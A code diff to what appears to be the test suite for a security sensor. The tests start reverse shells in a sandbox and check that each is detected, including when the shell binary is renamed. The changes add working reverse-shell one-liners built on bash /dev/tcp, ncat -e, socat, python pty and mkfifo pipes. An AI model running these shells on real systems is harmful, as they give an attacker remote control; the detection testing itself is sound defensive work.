@@ -26,7 +26,7 @@ COMMANDS = 4
 PYTHON = ("/usr/bin/python3", "-I", "-S", "-c")
 
 
-def behaviour_rules() -> str:
+def behavior_rules() -> str:
     """Of ours, those that know nothing but what detectors say."""
     files = [path for path in OWN.rglob("*.yml") if "category: network_behavior" in path.read_text()]
     return f"rules: {{{{paths: [{', '.join(map(str, files))}]}}}}\n"
@@ -34,7 +34,7 @@ def behaviour_rules() -> str:
 
 @pytest.fixture(scope="module")
 def sensor(rule_cache: str) -> Iterator[Running]:
-    with Running(SETTINGS + behaviour_rules(), config=CONFIG, cache=rule_cache) as running:
+    with Running(SETTINGS + behavior_rules(), config=CONFIG, cache=rule_cache) as running:
         yield running
 
 
@@ -117,18 +117,17 @@ DIRECT: dict[str, Callable[[Stage], list[str]]] = {
     "static": static,
 }
 FED: dict[str, Callable[[Stage], list[str]]] = {
-    "bash-lines": in_bash(
-        "exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read -r line; do $line 2>&5 >&5; done"
-    ),
+    "bash-lines": in_bash("exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read -r line; do $line 2>&5 >&5; done"),
+    "bash-reads": in_bash("exec 5<>/dev/tcp/{host}/{port}; while read -r line <&5; do $line 2>&5 >&5; done"),
     "ncat": lambda stage: [find("ncat"), "-e", stage.shell, *stage.place],
     "python-pty": in_python("pty.spawn(sys.argv[3])"),
     "socat": socat("TCP:{}:{}"),
     "socat-tls": socat("OPENSSL:{}:{},verify=0"),
-    "fifo": in_bash(
-        "mkfifo fifo; {shell} -i <fifo 2>&1 | " + find("ncat") + " {host} {port} >fifo"
-    ),
-}  # fmt: skip
+    "fifo": in_bash("mkfifo fifo; {shell} -i <fifo 2>&1 | " + find("ncat") + " {host} {port} >fifo"),
+    "fifos": in_bash("mkfifo in out; {shell} <in >out 2>&1 & " + find("ncat") + " {host} {port} >in <out; wait"),
+}
 SHELLS = DIRECT | FED
+RENAMED = [name for name in SHELLS if name in FED or name in {"static", "nc-traditional"}]
 
 
 def connected(server: socket.socket, certificate: Path | None) -> socket.socket:
@@ -153,16 +152,29 @@ def command(peer: socket.socket, number: int) -> None:
         said += piece
 
 
-def used(stage: Stage, argv: list[str], certificate: Path | None, server: socket.socket) -> Program:
-    program = stage.network.start_inside(stage.sandbox, argv, cwd=stage.folder)
-    try:
-        with connected(server, certificate) as peer:
-            for number in range(1, COMMANDS + 1):
+@dataclass(frozen=True)
+class Used:
+    """A shell in use by the outside; it lives until the test ends."""
+
+    peer: socket.socket
+    port: int
+    program: Program
+
+
+def use(network: Network, sandbox: Sandbox, folder: Path, name: str, shell: str) -> Used:
+    """Commands are run and answered."""
+    certificate = make_certificate(folder / "certificate") if name == "socat-tls" else None
+    with network.outside.call(lambda: socket.create_server((SERVER, 0))) as server:
+        stage = Stage(network, sandbox, folder, server.getsockname()[1], shell)
+        program = network.start_inside(sandbox, SHELLS[name](stage), cwd=folder)
+        try:
+            peer = connected(server, certificate)
+            for number in range(1, (COMMANDS if name in FED else 1) + 1):
                 command(peer, number)
-    except BaseException as error:
-        error.add_note(program.said())
-        raise
-    return program
+        except BaseException as error:
+            error.add_note(program.said())
+            raise
+    return Used(peer, stage.port, program)
 
 
 def scores(sensor: Running, box: Sandbox) -> list[int]:
@@ -175,20 +187,41 @@ def severe(rule: dict[str, str]) -> bool:
 
 
 def accused(sensor: Running, box: Sandbox) -> Line:
-    (line, *_) = sensor.wait(box, category="network_behavior", Behavior="reverse_shell", Score=lambda score: score >= 60)
+    (line, *_) = sensor.wait(
+        box, category="network_behavior", Behavior="reverse_shell", Score=lambda score: score >= 60
+    )
     sensor.wait(box, kind="detection", category="network_behavior", Behavior="reverse_shell", rule=severe)
     return line
 
 
-@pytest.mark.parametrize("renamed", [False, True], ids=["plain", "renamed"])
+def renamed(folder: Path) -> str:
+    return str(shutil.copy("/bin/sh", folder / "updated"))
+
+
 @pytest.mark.parametrize("name", SHELLS)
 def test_a_reverse_shell_is_told(
-    name: str, renamed: bool, sensor: Running, sandbox: Sandbox, network: Network, tmp_path: Path
+    name: str, sensor: Running, sandbox: Sandbox, network: Network, tmp_path: Path
 ) -> None:
-    shell = shutil.copy("/bin/sh", tmp_path / "updated") if renamed else "/bin/sh"
-    certificate = make_certificate(tmp_path / "certificate") if name == "socat-tls" else None
-    with network.outside.call(lambda: socket.create_server((SERVER, 0))) as server:
-        stage = Stage(network, sandbox, tmp_path, server.getsockname()[1], str(shell))
-        used(stage, SHELLS[name](stage), certificate, server)
+    with (used := use(network, sandbox, tmp_path, name, "/bin/sh")).peer:
         line = accused(sensor, sandbox)
-    assert (line["DestinationIp"], line["DestinationPort"]) == (SERVER, stage.port)
+    assert (line["DestinationIp"], line["DestinationPort"]) == (SERVER, used.port)
+
+
+@pytest.mark.parametrize("name", RENAMED)
+def test_whatever_the_shell_is_called(
+    name: str, sensor: Running, sandbox: Sandbox, network: Network, tmp_path: Path
+) -> None:
+    with (used := use(network, sandbox, tmp_path, name, renamed(tmp_path))).peer:
+        line = accused(sensor, sandbox)
+    assert (line["DestinationIp"], line["DestinationPort"]) == (SERVER, used.port)
+
+
+def test_nothing_is_kept_of_a_sandbox_that_ended(sensor: Running, network: Network, tmp_path: Path) -> None:
+    """Steps of one that had the same name do not count for the next."""
+    with sensor.sandbox("plain-again") as box, use(network, box, tmp_path, "ncat", "/bin/sh").peer:
+        accused(sensor, box)
+    (tmp_path / "again").mkdir()
+    with sensor.sandbox("plain-again") as box, use(network, box, tmp_path / "again", "ncat", "/bin/sh").peer:
+        first, *_ = sensor.wait(box, category="network_behavior", Behavior="reverse_shell")
+        accused(sensor, box)
+    assert first["Repetitions"] <= 1
